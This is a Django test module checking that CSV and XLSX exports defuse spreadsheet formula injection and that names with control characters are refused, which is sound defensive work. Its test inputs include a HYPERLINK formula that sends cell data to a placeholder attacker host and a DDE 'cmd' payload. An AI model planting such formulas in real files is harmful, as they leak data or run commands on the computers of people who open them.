"""Every CSV and XLSX the platform hands out is safe to open in Excel: text that looks like a
formula stays text, control characters never break a file, and forms refuse them in names."""

import csv
import io

from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import TestCase
from django.urls import reverse
from openpyxl import load_workbook

from districts.models import Organization
from ikokmu.roles import Role
from interviews import services as interview_services
from tests.catalog.factories import MeasureFactory
from tests.factories import ContactFactory, DistrictFactory, OrganizationFactory, user_with_role
from tests.interviews import factories as f

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Details")',
    "+SUM(1;2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def csv_rows(response) -> list[list[str]]:
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def xlsx_cells(response) -> list:
    workbook = load_workbook(io.BytesIO(response.content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


class ExportTestCase(TestCase):
    def assert_csv_defused(self, response, values):
        self.assertEqual(response.status_code, 200)
        cells = {cell for row in csv_rows(response) for cell in row}
        for value in values:
            self.assertIn("'" + value, cells, "a formula-like text gets an apostrophe")
            self.assertNotIn(value, cells)

    def assert_xlsx_has_no_formula(self, response, values):
        self.assertEqual(response.status_code, 200)
        cells = xlsx_cells(response)
        self.assertEqual([c.coordinate for c in cells if c.data_type == "f"], [])
        texts = {c.value for c in cells if c.data_type == "s"}
        for value in values:
            self.assertIn(value, texts, "the text itself, as a text cell")


class DistrictExportTests(ExportTestCase):
    @classmethod
    def setUpTestData(cls):
        cls.district = DistrictFactory(name="Landkreis Miesbach")
        cls.staff = user_with_role(Role.DISTRICT_STAFF, districts=[cls.district])
        for number, formula in enumerate(FORMULAS):
            organization = OrganizationFactory(
                district=cls.district, name=formula, postal_code=f"8370{number}"
            )
            ContactFactory(organization=organization, last_name=formula)
        # Stored before names refused control characters (or written by SQL).
        OrganizationFactory(district=cls.district, name="Glocken\x07gießerei\x1b Bauer")

    def setUp(self):
        self.client.force_login(self.staff)

    def export(self, name, file_format):
        return self.client.get(reverse(name, args=[self.district.pk]), {"format": file_format})

    def test_organisation_and_contact_csv_exports_defuse_formulas(self):
        self.assert_csv_defused(self.export("districts:organization_export", "csv"), FORMULAS)
        self.assert_csv_defused(self.export("districts:contact_export", "csv"), FORMULAS)

    def test_organisation_and_contact_xlsx_exports_hold_formulas_as_text(self):
        clean = [value.lstrip("\t\r") if value[0] in "\t\r" else value for value in FORMULAS]
        for name in ("districts:organization_export", "districts:contact_export"):
            with self.subTest(name):
                response = self.export(name, "xlsx")
                self.assert_xlsx_has_no_formula(response, clean[:4])

    def test_a_control_character_in_a_name_no_longer_breaks_the_xlsx_export(self):
        response = self.export("districts:organization_export", "xlsx")
        self.assertEqual(response.status_code, 200)
        names = {cell.value for cell in xlsx_cells(response)}
        self.assertIn("Glockengießerei Bauer", names)
        csv_names = {
            row[0] for row in csv_rows(self.export("districts:organization_export", "csv"))
        }
        self.assertIn("Glockengießerei Bauer", csv_names)

    def test_an_edited_csv_export_imports_without_the_apostrophes(self):
        Organization.objects.filter(district=self.district).exclude(name__in=FORMULAS[:4]).delete()
        Organization.objects.filter(district=self.district).update(phone="+49 8025 1234")
        exported = self.export("districts:organization_export", "csv").content
        response = self.client.post(
            reverse("districts:organization_import", args=[self.district.pk]),
            {"file": SimpleUploadedFile("organisationen.csv", exported)},
        )
        preview = response.context["preview"]
        self.assertEqual((preview["new"], preview["update"], preview["invalid"]), (0, 0, 0))

    def test_the_organisation_form_refuses_control_characters_in_the_name(self):
        response = self.client.post(
            reverse("districts:organization_create", args=[self.district.pk]),
            {"name": "Bäckerei\x1b Huber", "kind": "sme", "district": self.district.pk},
        )
        self.assertEqual(response.status_code, 200)
        self.assertFormError(
            response.context["form"],
            "name",
            "Bitte ohne Steuerzeichen (unsichtbare Sonderzeichen) eingeben.",
        )

    def test_an_import_row_with_a_control_character_in_the_name_is_left_out(self):
        response = self.client.post(
            reverse("districts:organization_import", args=[self.district.pk]),
            {
                "file": SimpleUploadedFile(
                    "liste.csv", "Name;PLZ\r\nBäckerei\x0b Huber;83714\r\n".encode()
                )
            },
        )
        preview = response.context["preview"]
        self.assertEqual((preview["new"], preview["invalid"]), (0, 1))
        self.assertIn("Steuerzeichen", " ".join(preview["invalid_rows"][0]["reasons"]))


class CatalogueExportTests(ExportTestCase):
    @classmethod
    def setUpTestData(cls):
        cls.team = user_with_role(Role.PROJECT_TEAM)
        for formula in FORMULAS[:4]:
            MeasureFactory(title=formula)

    def test_the_catalogue_xlsx_writes_no_formula_cell(self):
        self.client.force_login(self.team)
        response = self.client.get(
            reverse("catalog:export", args=["massnahmen"]), {"format": "xlsx"}
        )
        self.assert_xlsx_has_no_formula(response, FORMULAS[:4])

    def test_the_catalogue_csv_defuses_formulas(self):
        self.client.force_login(self.team)
        response = self.client.get(
            reverse("catalog:export", args=["massnahmen"]), {"format": "csv"}
        )
        self.assert_csv_defused(response, FORMULAS[:4])


class InterviewExportTests(ExportTestCase):
    @classmethod
    def setUpTestData(cls):
        cls.manager = user_with_role(Role.INTERVIEW_TEAM, username="leitung")
        cls.study = f.study_with_team(manager=cls.manager)
        cls.code = f.code(cls.study, "Sprache", definition=FORMULAS[0])
        interview = f.interview(f.company(cls.study), transcript=f"{FORMULAS[3]} und mehr")
        interview_services.segment_code(
            interview=interview, codes=[cls.code], coder=cls.manager, phrase=FORMULAS[3]
        )

    def setUp(self):
        self.client.force_login(self.manager)

    def test_the_codebook_csv_defuses_formulas(self):
        response = self.client.get(
            reverse("interviews:codebook_export", args=[self.study.pk, "csv"])
        )
        self.assert_csv_defused(response, [FORMULAS[0]])

    def test_the_segments_of_a_code_export_defused(self):
        url = reverse("interviews:retrieval_export", args=[self.code.pk, "csv"])
        self.assert_csv_defused(self.client.get(url), [FORMULAS[3]])
        url = reverse("interviews:retrieval_export", args=[self.code.pk, "xlsx"])
        self.assert_xlsx_has_no_formula(self.client.get(url), [FORMULAS[3]])
